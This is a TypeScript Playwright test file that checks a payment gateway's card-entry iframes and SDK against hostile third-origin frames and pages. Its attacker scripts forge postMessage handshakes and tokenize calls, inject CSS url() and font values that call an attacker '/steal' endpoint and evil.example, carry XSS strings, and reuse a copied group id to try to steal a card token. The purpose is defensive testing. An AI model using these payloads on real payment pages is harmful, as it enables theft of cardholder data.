// Family 2: hostile windows. A frame from a third origin inside the merchant page, and a page
// on a third origin that embeds the gateway's frames itself, throw forged handshakes, forged
// tokenize and group calls, oversized and malformed payloads and CSS injections at the
// frames and the SDK. Nothing may leak, nothing may crash, forged calls change nothing.
// Also: two groups never mix, and the frames' documents carry strict headers.
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Frame, Page } from '@playwright/test';
import { CHROMIUM, launchBrowser } from '../lib/browser.js';
import { ROOT, startGateway, stopGateway, type GatewayRun } from '../lib/gateway-process.js';
import { api, send } from '../lib/http-client.js';
import { startPageServer, type PageServer } from '../lib/merchant-server.js';
import { FamilyResult } from '../lib/results.js';
import { TEST_CARDS, cardBody } from '../lib/test-cards.js';
import { autofillPages, autofillTheft } from './autofill-theft.js';
import { LOOKALIKE_HTML, frameSwap, swapPage } from './frame-swap.js';
import { leakIn, merchantPage, tokenizeIn, typeCard } from './merchant-visibility.js';

const GATEWAY_PORT = 8825;
const PAGE_PORT = 8826;

/** The attacker's script: runs in a third-origin frame or page. Plain JS, served as a file. */
const FORGER_JS = String.raw`
window.received = [];
addEventListener('message', (e) => {
  let text;
  try { text = JSON.stringify(e.data); } catch { text = String(e.data); }
  window.received.push(e.origin + ' ' + String(text).slice(0, 5000));
});
const penpal = (type, extra) => ({ namespace: 'penpal', channel: 'pay-field', type, ...extra });
window.forgedMessages = (group) => {
  const deep = {}; let cur = deep; for (let i = 0; i < 2000; i++) { cur.a = {}; cur = cur.a; }
  return [
    { ns: 'pay-group', group, type: 'collect', id: 'forged1' },
    { ns: 'pay-group', group, type: 'brand', brand: 'amex' },
    { ns: 'pay-group', group, type: 'values', id: 'forged1', values: [{ part: 'number', value: '4000000000000002' }] },
    penpal('SYN', { participantId: 'forged00' }),
    penpal('ACK1', { methodPaths: [['change'], ['resize']] }),
    penpal('ACK2', {}),
    penpal('CALL', { id: 'c1', methodPath: ['clear'], args: [] }),
    penpal('CALL', { id: 'c2', methodPath: ['tokenize'], args: [{ parts: ['number', 'expiry', 'cvc'] }] }),
    penpal('CALL', { id: 'c3', methodPath: ['configure'], args: [{ label: 'x', publishableKey: 'pk_test_attacker', styles: { '--pay-color': 'url(https://evil.example/x)' } }] }),
    penpal('CALL', { id: 'c4', methodPath: ['constructor', 'constructor'], args: ['return 1'] }),
    penpal('CALL', { id: 'c5', methodPath: ['__proto__', 'toString'], args: [] }),
    null, undefined, 0, '', 'x'.repeat(2 * 1024 * 1024), [1, 2, 3], { namespace: 'penpal' }, deep,
    { ns: 'pay-group', group, type: 'values', id: 'x', values: Array.from({ length: 100000 }, () => ({ part: 'number', value: '4' })) },
    new ArrayBuffer(1024 * 1024),
  ];
};
/** Everything, to every frame of the parent page and to the parent itself. */
window.attack = (gateway, group, hostOrigin) => {
  let sent = 0;
  const frames = window.parent.frames;
  for (let round = 0; round < 2; round++) {
    for (const message of window.forgedMessages(group)) {
      for (let i = 0; i < frames.length; i++) {
        if (frames[i] === window) continue;
        for (const target of [gateway, '*']) { try { frames[i].postMessage(message, target); sent++; } catch {} }
      }
      for (const target of [hostOrigin, '*']) { try { window.parent.postMessage(message, target); sent++; } catch {} }
    }
  }
  // A handshake that hands over a port the forger holds: obeyed, it would let it call the frame.
  for (let i = 0; i < frames.length; i++) {
    if (frames[i] === window) continue;
    const channel = new MessageChannel();
    channel.port1.onmessage = (e) => window.received.push('port ' + JSON.stringify(e.data).slice(0, 5000));
    try { frames[i].postMessage(penpal('ACK2', {}), gateway, [channel.port2]); sent++; } catch {}
    channel.port1.postMessage(penpal('CALL', { id: 'p1', methodPath: ['tokenize'], args: [{ parts: ['number', 'expiry', 'cvc'] }] }));
  }
  const host = [penpal('CALL', { id: 'h1', methodPath: ['change'], args: [{ empty: false, complete: true, valid: true, brand: 'visa' }] }), penpal('CALL', { id: 'h2', methodPath: ['resize'], args: [1] })];
  for (const m of host) window.parent.postMessage(m, hostOrigin);
  return sent;
};
/** Tries to read or replace a sibling frame; answers what happened. */
window.tamper = () => {
  const out = [];
  const frames = window.parent.frames;
  for (let i = 0; i < frames.length; i++) {
    if (frames[i] === window) continue;
    try { out.push('read:' + frames[i].document.body.innerHTML.slice(0, 100)); } catch { out.push('read:blocked'); }
    try { frames[i].location.href = location.origin + '/phish.html'; out.push('navigate:allowed?'); } catch { out.push('navigate:blocked'); }
  }
  return out;
};
`;

function victimPage(gw: GatewayRun, hostileOrigin: string): string {
  return merchantPage(
    gw.url,
    gw.publishableKey,
    'split',
    `<iframe id="forger" title="ad" src="${hostileOrigin}/forger.html"></iframe>`,
  );
}

function twoGroupsPage(gw: GatewayRun): string {
  const group = (id: string) =>
    `<pay-card-fields id="${id}" publishable-key="${gw.publishableKey}"><pay-card-number class="${id}"></pay-card-number><pay-card-expiry class="${id}"></pay-card-expiry><pay-card-cvc class="${id}"></pay-card-cvc></pay-card-fields>`;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Two groups</title><script type="module" src="${gw.url}/sdk/v1/pay.js"></script></head><body>${group('a')}${group('b')}</body></html>`;
}

/** A third-origin page that embeds gateway frames itself, lying about its origin. */
function embedderPage(gw: GatewayRun, claimedOrigin: string): string {
  const src = (kind: string) =>
    `${gw.url}/frame/v1/index.html#kind=${kind}&origin=${encodeURIComponent(claimedOrigin)}&group=hostilegroup01`;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Embedder</title><script src="/forger.js"></script></head><body>
<iframe id="n" title="n" src="${src('number')}"></iframe><iframe id="e" title="e" src="${src('expiry')}"></iframe><iframe id="c" title="c" src="${src('cvc')}"></iframe></body></html>`;
}

/** A page on the hostile origin that uses the real SDK with a group id copied from the victim. */
function groupThiefPage(gw: GatewayRun): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Thief</title><script type="module" src="${gw.url}/sdk/v1/pay.js"></script></head><body>
<div id="slot"></div><script type="module" src="/thief.js"></script></body></html>`;
}

const THIEF_JS = String.raw`
await customElements.whenDefined('pay-card-fields');
const group = document.createElement('pay-card-fields');
group.id = 'group';
group.setAttribute('publishable-key', new URLSearchParams(location.search).get('pk'));
group.groupId = new URLSearchParams(location.search).get('group');
group.innerHTML = '<pay-card-number></pay-card-number><pay-card-expiry></pay-card-expiry><pay-card-cvc></pay-card-cvc>';
document.getElementById('slot').append(group);
window.thiefReady = true;
`;

async function frameOf(page: Page, kind: string): Promise<Frame> {
  await page.locator(`pay-card-${kind} iframe`).first().waitFor();
  const handle = await page.locator(`pay-card-${kind} iframe`).first().elementHandle();
  const frame = await handle?.contentFrame();
  if (!frame) throw new Error(`no ${kind} frame`);
  return frame;
}

async function forgerScenario(
  browser: Browser,
  gw: GatewayRun,
  merchant: PageServer,
  hostile: PageServer,
  result: FamilyResult,
): Promise<void> {
  const card = TEST_CARDS[0]!;
  const context = await browser.newContext();
  let crashed = false;
  try {
    const page = await context.newPage();
    page.on('crash', () => (crashed = true));
    const pageErrors: string[] = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));
    await page.goto(`${merchant.origin}/victim.html`);
    await page.frameLocator('pay-card-number iframe').locator('input').waitFor();
    await page.waitForFunction(
      () =>
        (document.getElementById('group') as HTMLElement & { fields?: unknown[] }).fields
          ?.length === 4,
    );
    const groupId = await page.evaluate(
      () => (document.getElementById('group') as HTMLElement & { groupId: string }).groupId,
    );
    const forger = page.frames().find((f) => f.url().includes('/forger.html'));
    if (!forger) throw new Error('the forger frame did not load');
    await forger.waitForFunction(
      () => typeof (window as unknown as { attack?: unknown }).attack === 'function',
    );
    const numberFrame = await frameOf(page, 'number');

    // Attack before and after the card is typed: forged collect must not pull the values out.
    const sentBefore = await forger.evaluate(
      ([g, grp, h]) =>
        (window as unknown as { attack(a: string, b: string, c: string): number }).attack(
          g,
          grp,
          h,
        ),
      [gw.url, groupId, merchant.origin] as const,
    );
    await typeCard(page, 'split', card);
    const sentAfter = await forger.evaluate(
      ([g, grp, h]) =>
        (window as unknown as { attack(a: string, b: string, c: string): number }).attack(
          g,
          grp,
          h,
        ),
      [gw.url, groupId, merchant.origin] as const,
    );
    await page.waitForTimeout(1500);
    result.check(
      'forger: attack messages were really sent',
      sentBefore > 100 && sentAfter > 100,
      `sent ${sentBefore} and ${sentAfter}`,
    );

    const received = await forger.evaluate(
      () => (window as unknown as { received: string[] }).received,
    );
    const leaked = received.map((t) => leakIn(t, card)).find(Boolean);
    result.record(
      `forger: the third-origin frame learned nothing (${received.length} messages reached it)`,
      leaked && `${leaked} reached the forger`,
    );
    const gatewayReplies = received.filter((t) => t.startsWith(gw.url));
    result.check(
      'forger: the card frames never answered it',
      gatewayReplies.length === 0,
      `${gatewayReplies.length} messages from the gateway origin: ${gatewayReplies[0]?.slice(0, 200)}`,
    );

    // The forged clear/configure were ignored: the typed card is still there and tokenizes.
    const answer = await tokenizeIn(page);
    result.check(
      'forger: forged clear/tokenize/values ignored, the real card tokenizes',
      answer.ok && answer.last4 === card.number.slice(-4),
      `tokenize answered ${JSON.stringify(answer)}`,
    );
    const label = await numberFrame.evaluate(
      () => document.querySelector('input')?.getAttribute('aria-label') ?? document.title,
    );
    result.check(
      'forger: forged configure ignored (label not replaced)',
      label !== 'x',
      `label is "${label}"`,
    );
    const height = await page.evaluate(
      () => (document.querySelector('pay-card-number iframe') as HTMLIFrameElement).style.height,
    );
    result.check(
      'forger: forged resize to the host ignored',
      height !== '1px',
      `number frame height ${height}`,
    );
    const tamper = await forger.evaluate(() =>
      (window as unknown as { tamper(): string[] }).tamper(),
    );
    await page.waitForTimeout(500);
    const stillGateway = page.frames().filter((f) => f.url().includes('/phish.html')).length === 0;
    result.check(
      'forger: cannot read or navigate the card frames',
      !tamper.some((t) => t.startsWith('read:') && t !== 'read:blocked') && stillGateway,
      `tamper: ${tamper.join(', ')}; phish frames: ${!stillGateway}`,
    );
    result.check(
      'forger: no crash of the page or the frames',
      !crashed && !pageErrors.some((e) => /pay|penpal/i.test(e)),
      `crashed ${crashed}, errors ${pageErrors.join(' | ').slice(0, 300)}`,
    );
  } finally {
    await context.close();
  }
}

async function embedderScenario(
  browser: Browser,
  gw: GatewayRun,
  merchant: PageServer,
  hostile: PageServer,
  result: FamilyResult,
): Promise<void> {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    // Frames that believe their host is the merchant, embedded by the hostile origin.
    await page.goto(`${hostile.origin}/embedder.html?claimed=merchant`);
    const number = page.frameLocator('#n').locator('input');
    await number.waitFor({ timeout: 20_000 });
    await number.pressSequentially(TEST_CARDS[0]!.number);
    await page.frameLocator('#c').locator('input').pressSequentially(TEST_CARDS[0]!.cvc);
    const sent = await page.evaluate(
      ([g, h]) => {
        const w = window as unknown as {
          forgedMessages(group: string): unknown[];
          received: string[];
        };
        let n = 0;
        for (const message of w.forgedMessages('hostilegroup01')) {
          for (const f of [...document.querySelectorAll('iframe')]) {
            try {
              f.contentWindow?.postMessage(message, g);
              n++;
            } catch {
              // uncloneable on purpose
            }
          }
        }
        window.postMessage({ probe: h }, location.origin);
        return n;
      },
      [gw.url, merchant.origin] as const,
    );
    await page.waitForTimeout(1500);
    const received = await page.evaluate(
      () => (window as unknown as { received: string[] }).received,
    );
    const fromGateway = received.filter((t) => t.startsWith(gw.url));
    result.check(
      `embedder: frames told another host origin post nothing to the real parent (${sent} forged sent)`,
      fromGateway.length === 0,
      `${fromGateway.length} messages: ${fromGateway[0]?.slice(0, 200)}`,
    );
    const leaked = received.map((t) => leakIn(t, TEST_CARDS[0]!)).find(Boolean);
    result.record('embedder: nothing typed reaches the embedding page', leaked);
  } finally {
    await context.close();
  }
}

async function styleInjection(
  browser: Browser,
  gw: GatewayRun,
  merchant: PageServer,
  hostile: PageServer,
  result: FamilyResult,
): Promise<void> {
  const context = await browser.newContext();
  const before = hostile.received.length;
  try {
    const page = await context.newPage();
    const evil = `${hostile.origin}/steal`;
    // A page script rewrites every configure call on its way into the frame (the SDK's own
    // filter is bypassed), and also sets the custom properties the SDK reads.
    await page.addInitScript((target: string) => {
      const post = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (
        this: MessagePort,
        message: unknown,
        ...rest: unknown[]
      ) {
        const m = message as {
          type?: string;
          methodPath?: string[];
          args?: Record<string, unknown>[];
        };
        if (m?.type === 'CALL' && m.methodPath?.[0] === 'configure' && m.args?.[0]) {
          const w = window as unknown as { rewritten?: number };
          w.rewritten = (w.rewritten ?? 0) + 1;
          m.args[0].styles = {
            '--pay-color': `url(${target}/color)`,
            '--pay-background': `red;background-image:url(${target}/bg)`,
            '--pay-font-family': `x}body{background:url(${target}/ff)}`,
            '--pay-font-size': 'expression(alert(1))',
            '--pay-padding': `1px url(${target}/pad)`,
            '--pay-line-height': '1;behavior:url(x.htc)',
            'background-image': `url(${target}/raw)`,
            '--pay-placeholder-color': `var(--x, url(${target}/var))`,
            '--pay-caret-color': `\\75rl(${target}/escaped)`,
          };
          m.args[0].fonts = [
            { family: 'Evil', src: `${target}/font` },
            {
              family: 'Evil2',
              src: `https://evil.example/a.woff2) format("woff2"); src: url(${target}/font2`,
            },
            { family: 'x"}', src: 'https://evil.example/f.woff2' },
            { family: 'Evil3', src: `javascript:alert(1)` },
          ];
          m.args[0].label = '<img src=x onerror=alert(1)>';
        }
        return (post as (...a: unknown[]) => void).call(this, message, ...rest);
      } as typeof post;
    }, evil);
    await page.goto(`${merchant.origin}/styled.html`);
    await page.frameLocator('pay-card-number iframe').locator('input').waitFor();
    await page.waitForTimeout(1500);
    const rewritten = await page.evaluate(
      () => (window as unknown as { rewritten?: number }).rewritten ?? 0,
    );
    result.check(
      'styles: the hostile configure calls were really sent',
      rewritten >= 4,
      `${rewritten} configure calls rewritten`,
    );
    const frame = await frameOf(page, 'number');
    const inside = await frame.evaluate(() => ({
      inline: document.documentElement.style.cssText,
      sheets: [...document.styleSheets].length,
      images: document.querySelectorAll('img').length,
      computed: getComputedStyle(document.querySelector('input') ?? document.body).backgroundImage,
    }));
    const stolen = hostile.received.slice(before).filter((r) => r.url.startsWith('/steal'));
    result.check(
      'styles: no url()/expression reaches the frame',
      !/url\(|expression|behavior|\\75/i.test(inside.inline),
      `frame root style: ${inside.inline.slice(0, 300)}`,
    );
    result.check(
      'styles: nothing was fetched from the attacker',
      stolen.length === 0,
      `requests: ${stolen.map((r) => r.url).join(', ')}`,
    );
    result.check(
      'styles: no markup injected through the label',
      inside.images === 0 && inside.computed === 'none',
      `images ${inside.images}, background ${inside.computed}`,
    );
    // The frame still works after the bad config.
    await typeCard(page, 'split', TEST_CARDS[6]!);
    const answer = await tokenizeIn(page);
    result.check(
      'styles: the frame still tokenizes after a hostile config',
      answer.ok,
      `tokenize answered ${JSON.stringify(answer)}`,
    );
  } finally {
    await context.close();
  }
}

async function groupsScenario(
  browser: Browser,
  gw: GatewayRun,
  merchant: PageServer,
  hostile: PageServer,
  result: FamilyResult,
): Promise<void> {
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(`${merchant.origin}/two-groups.html`);
    const a = TEST_CARDS[0]!;
    const b = TEST_CARDS[6]!;
    const typeInto = async (cls: string, card: typeof a) => {
      await page
        .frameLocator(`pay-card-number.${cls} iframe`)
        .locator('input')
        .pressSequentially(card.number, { timeout: 20_000 });
      await page
        .frameLocator(`pay-card-expiry.${cls} iframe`)
        .locator('input')
        .pressSequentially('1130');
      await page
        .frameLocator(`pay-card-cvc.${cls} iframe`)
        .locator('input')
        .pressSequentially(card.cvc);
    };
    await typeInto('a', a);
    await typeInto('b', b);
    const answers = await page.evaluate(async () => {
      const out: Record<string, unknown> = {};
      for (const id of ['a', 'b']) {
        try {
          const r = await (
            document.getElementById(id) as HTMLElement & {
              tokenize(): Promise<{ card: { last4: string } }>;
            }
          ).tokenize();
          out[id] = r.card.last4;
        } catch (e) {
          out[id] = (e as { code?: string }).code;
        }
      }
      return out;
    });
    result.check(
      'two groups on one page never mix',
      answers.a === a.number.slice(-4) && answers.b === b.number.slice(-4),
      `group a → ${String(answers.a)}, group b → ${String(answers.b)}`,
    );

    // Another origin copies group a's id into its own group: it must not get a's card.
    const groupId = await page.evaluate(
      () => (document.getElementById('a') as HTMLElement & { groupId: string }).groupId,
    );
    const thief = await context.newPage();
    await thief.goto(
      `${hostile.origin}/thief.html?group=${encodeURIComponent(groupId)}&pk=${gw.publishableKey}`,
    );
    await thief.waitForFunction(
      () => (window as unknown as { thiefReady?: boolean }).thiefReady === true,
    );
    await thief
      .frameLocator('pay-card-number iframe')
      .locator('input')
      .waitFor({ timeout: 20_000 });
    const stolen = await tokenizeIn(thief);
    result.check(
      'a page with a copied group id gets no token for that group',
      !stolen.ok && stolen.last4 === undefined,
      `thief's tokenize answered ${JSON.stringify(stolen)}`,
    );
  } finally {
    await context.close();
  }
}

/**
 * The 3-D Secure result page posts its outcome only to `parent_origin`: framed by a hostile
 * page with the merchant's origin as parent_origin, the hostile page hears nothing. Control:
 * with its own origin as parent_origin it does hear the outcome (the channel works).
 */
async function threeDSecureScenario(
  browser: Browser,
  gw: GatewayRun,
  merchant: PageServer,
  hostile: PageServer,
  result: FamilyResult,
): Promise<void> {
  const challengeUrl = async (): Promise<string> => {
    const tok = await api(
      gw.url,
      'POST',
      '/v1/tokens',
      gw.publishableKey,
      cardBody(TEST_CARDS[1]!),
    );
    const pay = await api(gw.url, 'POST', '/v1/payments', gw.secretKey, {
      amount: 9,
      currency: 'usd',
      token: (tok.json as { id: string }).id,
      return_url: `${merchant.origin}/done`,
    });
    const url = (pay.json as { redirect_url?: string }).redirect_url;
    if (pay.status !== 202 || !url) {
      throw new Error(`3-D Secure payment answered ${pay.status}: ${pay.text.slice(0, 200)}`);
    }
    return url;
  };
  const heard = async (parentOrigin: string): Promise<string[]> => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const src = `${await challengeUrl()}?parent_origin=${encodeURIComponent(parentOrigin)}`;
      await page.goto(`${hostile.origin}/frame-3ds.html#${encodeURIComponent(src)}`);
      await page
        .frameLocator('#challenge')
        .getByRole('button', { name: /complete/i })
        .click();
      await page.waitForTimeout(1500);
      return await page.evaluate(() =>
        (window as unknown as { received: string[] }).received.filter(
          (t) => !t.startsWith(location.origin),
        ),
      );
    } finally {
      await context.close();
    }
  };
  const control = await heard(hostile.origin);
  result.check(
    '3-D Secure: control, the result reaches a parent named in parent_origin',
    control.some((t) => /succeeded/.test(t)),
    `heard ${JSON.stringify(control).slice(0, 200)}`,
  );
  const spoofed = await heard(merchant.origin);
  result.check(
    '3-D Secure: a hostile parent framing the page with another parent_origin hears nothing',
    spoofed.length === 0,
    `heard ${JSON.stringify(spoofed).slice(0, 200)}`,
  );
  for (const bad of ['*', 'javascript:alert(1)', `${merchant.origin}/path`, 'null']) {
    const url = `${await challengeUrl()}?parent_origin=${encodeURIComponent(bad)}`;
    const res = await send(gw.url, { method: 'GET', path: url.slice(gw.url.length) });
    result.check(
      `3-D Secure: parent_origin=${bad} refused`,
      res.status === 400,
      `answered ${res.status}`,
    );
  }
  const page = await send(gw.url, {
    method: 'GET',
    path: (await challengeUrl()).slice(gw.url.length),
  });
  const csp = header(page, 'content-security-policy');
  result.check(
    '3-D Secure page: strict CSP, nosniff, no inline script',
    /default-src 'none'/.test(csp) &&
      /script-src 'self'(;|$)/.test(csp) &&
      header(page, 'x-content-type-options') === 'nosniff' &&
      !/<script(?![^>]*\bsrc=)[^>]*>/i.test(page.text),
    `CSP "${csp}"`,
  );
}

function header(
  res: { headers: Record<string, string | string[] | undefined> },
  name: string,
): string {
  const v = res.headers[name];
  return (Array.isArray(v) ? v.join(', ') : v) ?? '';
}

async function headersScenario(gw: GatewayRun, result: FamilyResult): Promise<void> {
  const frameDir = join(ROOT, 'packages/frame/dist');
  const assets = existsSync(join(frameDir, 'assets'))
    ? readdirSync(join(frameDir, 'assets')).map((f) => `/frame/v1/assets/${f}`)
    : [];
  for (const path of ['/frame/v1/index.html', '/frame/v1/', ...assets]) {
    const res = await send(gw.url, { method: 'GET', path });
    const csp = header(res, 'content-security-policy');
    const directives: Record<string, string[]> = Object.fromEntries(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v]),
    );
    const problems: string[] = [];
    if (res.status !== 200) problems.push(`HTTP ${res.status}`);
    if (!directives['default-src']?.includes("'none'"))
      problems.push(`default-src ${String(directives['default-src'])}`);
    const scripts = directives['script-src'] ?? [];
    if (!scripts.length || scripts.some((s) => /unsafe|\*|data:|https?:$/.test(s)))
      problems.push(`script-src ${scripts.join(' ')}`);
    if (directives['connect-src']?.join(' ') !== "'self'")
      problems.push(`connect-src ${String(directives['connect-src'])}`);
    if ((directives['style-src'] ?? []).some((s) => /unsafe-inline|\*/.test(s)))
      problems.push('style-src allows inline or any origin');
    if (!directives['base-uri']) problems.push('no base-uri');
    if (header(res, 'x-content-type-options') !== 'nosniff')
      problems.push('no X-Content-Type-Options: nosniff');
    if (!header(res, 'referrer-policy')) problems.push('no Referrer-Policy');
    if (header(res, 'access-control-allow-origin') === '*')
      problems.push('frame document is CORS-readable by any origin');
    if (path.endsWith('.js') && !/javascript/.test(header(res, 'content-type')))
      problems.push(`content-type ${header(res, 'content-type')}`);
    if (/\.html$|\/$/.test(path) && /<script(?![^>]*\bsrc=)[^>]*>/i.test(res.text))
      problems.push('inline <script> in the frame document');
    if (/\.html$|\/$/.test(path) && /\son[a-z]+=/i.test(res.text))
      problems.push('inline event handler in the frame document');
    result.record(`headers: ${path}`, problems.length ? problems.join('; ') : undefined);
  }
  const sdk = await send(gw.url, { method: 'GET', path: '/sdk/v1/pay.js' });
  const sdkProblems = [
    header(sdk, 'x-content-type-options') === 'nosniff' ? '' : 'no nosniff',
    /javascript/.test(header(sdk, 'content-type'))
      ? ''
      : `content-type ${header(sdk, 'content-type')}`,
    header(sdk, 'cross-origin-resource-policy') === 'cross-origin' ? '' : 'no CORP cross-origin',
  ].filter(Boolean);
  result.record('headers: /sdk/v1/pay.js', sdkProblems.length ? sdkProblems.join('; ') : undefined);
  // Rule 2 (docs/architecture.md), in the shipped bundles: no postMessage with "*" as its target.
  for (const [name, file] of [
    ['SDK', join(ROOT, 'packages/host/dist/pay.js')],
    ...assets
      .filter((a) => a.endsWith('.js'))
      .map((a) => ['frame', join(frameDir, 'assets', a.split('/').pop() ?? '')]),
  ] as [string, string][]) {
    const code = readFileSync(file, 'utf8');
    const star =
      /postMessage\([^()]*?,\s*["'`]\*["'`]/.exec(code) ??
      /targetOrigin\s*:\s*["'`]\*["'`]/.exec(code);
    const evals = /\beval\(|new Function\(/.exec(code);
    result.record(
      `bundle: ${name} ${file.split('/').pop()} never posts to "*" and has no eval`,
      star ? `found ${star[0]}` : evals ? `found ${evals[0]}` : undefined,
    );
  }
  // The API and the 3-D Secure assets may never be framed or sniffed.
  const apiRes = await send(gw.url, {
    method: 'GET',
    path: '/v1/payments',
    headers: { authorization: `Bearer ${gw.secretKey}` },
  });
  result.check(
    'headers: the API forbids framing',
    /frame-ancestors 'none'/.test(header(apiRes, 'content-security-policy')) ||
      header(apiRes, 'x-frame-options') === 'DENY',
    'API answers can be framed',
  );
  const preflight = await send(gw.url, {
    method: 'OPTIONS',
    path: '/v1/payments',
    headers: { origin: 'http://[::1]:8826', 'access-control-request-method': 'POST' },
  });
  result.check(
    'headers: secret-key endpoints are not CORS-readable',
    !header(preflight, 'access-control-allow-origin'),
    `ACAO ${header(preflight, 'access-control-allow-origin')}`,
  );
}

export async function hostileWindows(): Promise<FamilyResult> {
  const result = new FamilyResult('2 hostile windows');
  if (!existsSync(CHROMIUM)) {
    result.skipped = `no Chromium at ${CHROMIUM}`;
    result.record('chromium available', result.skipped);
    return result;
  }
  const gw = await startGateway({ port: GATEWAY_PORT });
  const autofill = autofillPages(gw, `http://[::1]:${PAGE_PORT}`, `http://127.0.0.1:${PAGE_PORT}`);
  const hostile = await startPageServer('::1', PAGE_PORT, {
    ...autofill.hostile,
    '/swap.html': swapPage(`http://127.0.0.1:${PAGE_PORT}/autofill-checkout.html`),
    '/lookalike.html': LOOKALIKE_HTML,
    '/forger.html': '<!doctype html><title>ad</title><script src="/forger.js"></script>',
    '/forger.js': FORGER_JS,
    '/embedder.html': embedderPage(gw, 'http://127.0.0.1:8826'),
    '/thief.html': groupThiefPage(gw),
    '/thief.js': THIEF_JS,
    '/frame-3ds.html':
      '<!doctype html><title>3ds</title><script src="/forger.js"></script><body><script src="/frame-3ds.js"></script></body>',
    '/frame-3ds.js':
      "const f = document.createElement('iframe'); f.id = 'challenge'; f.title = 'challenge'; f.src = decodeURIComponent(location.hash.slice(1)); document.body.append(f);",
    '/phish.html': '<!doctype html><title>phish</title><input>',
  });
  const merchant = await startPageServer('127.0.0.1', PAGE_PORT, {
    '/victim.html': victimPage(gw, hostile.origin),
    '/styled.html': merchantPage(gw.url, gw.publishableKey, 'split'),
    '/two-groups.html': twoGroupsPage(gw),
    ...autofill.merchant,
  });
  const browser = await launchBrowser();
  try {
    for (const [name, scenario] of [
      ['forged messages from a third-origin frame', forgerScenario],
      ['a third origin embedding the frames', embedderScenario],
      ['hostile styles', styleInjection],
      ['groups', groupsScenario],
      ['3-D Secure page', threeDSecureScenario],
    ] as const) {
      await scenario(browser, gw, merchant, hostile, result).catch((e: Error) =>
        result.record(`${name}: ran to the end`, e.message.split('\n')[0]),
      );
    }
    await autofillTheft(browser, merchant.origin, hostile.origin, result);
    await frameSwap(browser, merchant.origin, hostile.origin, result).catch((e: Error) =>
      result.record('swapped frame: ran to the end', e.message.split('\n')[0]),
    );
    await headersScenario(gw, result);
  } finally {
    await browser.close();
    await merchant.close();
    await hostile.close();
    await stopGateway(gw);
  }
  return result;
}
